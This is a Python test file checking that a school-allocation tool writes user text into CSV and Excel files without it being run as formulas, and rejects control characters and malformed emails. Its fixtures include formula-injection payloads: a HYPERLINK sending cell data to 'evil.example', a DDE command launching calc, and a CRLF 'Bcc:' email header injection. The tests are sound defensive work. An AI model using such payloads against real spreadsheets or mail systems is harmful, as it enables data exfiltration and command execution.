"""What people wrote is text in every workbook and CSV that we write, and comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from allocator.domain import canon
from allocator.domain.case import Case
from allocator.domain.policy import Policy
from allocator.intake.mark import marked
from allocator.intake.plain import guarded, unguarded
from allocator.intake.read import read_case
from allocator.intake.source import read_raw
from allocator.intake.write import write_case
from allocator.reasons.answer import solve
from allocator.report.plan_workbook import write_workbook
from tests.make import case, school, sip
from tests.sizes import long

ODD = [
    '=HYPERLINK("https://evil.example/?x="&B2,"see note")',
    "=cmd|' /C calc'!A1",
    "=1+1",
    "+44 1632 960000",
    "-1",
    "@SUM(A1)",
    "'=1",
    "''-",
    "'quoted'",
    "- she said",
    "=",
]


def told(note: str) -> Case:
    """A case in which people wrote this, wherever they may."""
    schools = [school("1", name=f"{note} School", focus=("reading",)), school("2", cluster=note)]
    wishes = [{"by": "school", "urn": "1", "wish": "keep", "note": note}]
    return case(schools, [sip("A", name=note, pen_portrait=note)], wishes=wishes)


@pytest.mark.parametrize("note", ODD)
def test_a_text_is_never_worked_out_and_comes_back(tmp_path: Path, note: str) -> None:
    given = told(note)
    for path in (tmp_path / "case", tmp_path / "case.xlsx", tmp_path / "case.json"):
        write_case(given, path)
        back = read_case(path).case
        assert back is not None
        assert canon.case_out(back) == canon.case_out(given), path
    cells = [c for sheet in load_workbook(tmp_path / "case.xlsx") for row in sheet for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for file in (tmp_path / "case").glob("*.csv"):
        with file.open(newline="", encoding="utf-8") as f:
            assert not [c for row in csv.reader(f) for c in row if c[:1] in ("=", "+", "-", "@")], file


@pytest.mark.parametrize("text", [*ODD, "", "a", "'", "''", "'''=", "\t=1", "\r=1"])
def test_a_guard_comes_off_as_it_went_on(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@long(but=(r"\x0b", r"\x00"))
@pytest.mark.parametrize("odd", ["\x0b", "\x00", "\x1b[31m", "\ufffe", "\x85", "\u202e"])
def test_no_character_breaks_a_workbook(tmp_path: Path, odd: str) -> None:
    """Of a case from before such characters were refused."""
    given = told(f"one{odd}two")
    write_case(given, tmp_path / "case.xlsx")
    plan = solve(given, Policy())
    write_workbook(given, Policy(), plan, tmp_path / "plan.xlsx")
    for name in ("case", "plan"):
        cells = [c.value for sheet in load_workbook(tmp_path / f"{name}.xlsx") for row in sheet for c in row]
        assert [c for c in cells if isinstance(c, str) and c.startswith("one") and c.endswith("two")]
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "schools.csv").write_text(f'urn,name,nonsense\n1,"A{odd}B",x\n', "utf-8")
    (tmp_path / "marked.xlsx").write_bytes(marked(read_raw(folder)))
    load_workbook(tmp_path / "marked.xlsx")


@pytest.mark.parametrize("odd", ["\x1b[31m", "\ufffe", "\u202e", "\x07", "\u2066"])
@pytest.mark.parametrize("column", ["name", "head_email", "trust"])
def test_what_cannot_be_kept_is_an_error_with_its_place(tmp_path: Path, odd: str, column: str) -> None:
    (tmp_path / "sips.csv").write_text("sip,name,kind,phases,days\nA,Ann,consultant,primary,9\n", "utf-8")
    rows = {"urn": "1", "name": "Ash", "phase": "primary"} | {column: f"a{odd}b"}
    (tmp_path / "schools.csv").write_text(",".join(rows) + "\n" + ",".join(rows.values()) + "\n", "utf-8")
    errors = [p for p in read_case(tmp_path).problems if p.severity == "error"]
    assert [(p.table, p.row, p.column) for p in errors] == [("schools", 2, column)]
    assert "U+" in str(errors[0].expected)


@pytest.mark.parametrize(
    "wrong", ["ring the office", "a@b.example, spy@evil.example", "hé@a.example", "a@b\r\nBcc: c@d.example"]
)
def test_what_is_no_address_is_an_error(tmp_path: Path, wrong: str) -> None:
    (tmp_path / "sips.csv").write_text("sip,name,kind,phases,days\nA,Ann,consultant,primary,9\n", "utf-8")
    (tmp_path / "schools.csv").write_text(f'urn,name,phase,head_email\n1,Ash,primary,"{wrong}"\n', "utf-8", newline="")
    errors = [p for p in read_case(tmp_path).problems if p.severity == "error"]
    assert [(p.column, "one email address" in str(p.expected)) for p in errors] == [("head_email", True)]


def test_a_soft_line_break_is_a_new_line_in_a_note_and_a_blank_in_a_name(tmp_path: Path) -> None:
    (tmp_path / "sips.csv").write_text(
        'sip,name,kind,phases,days,pen_portrait\nA,"Ann\x0bLea",consultant,primary,9,"one\u2028two"\n', "utf-8"
    )
    (tmp_path / "schools.csv").write_text("urn,name,phase\n1,Ash,primary\n", "utf-8")
    found = read_case(tmp_path).case
    assert found is not None
    assert (found.sips[0].name, found.sips[0].pen_portrait) == ("Ann Lea", "one\ntwo")
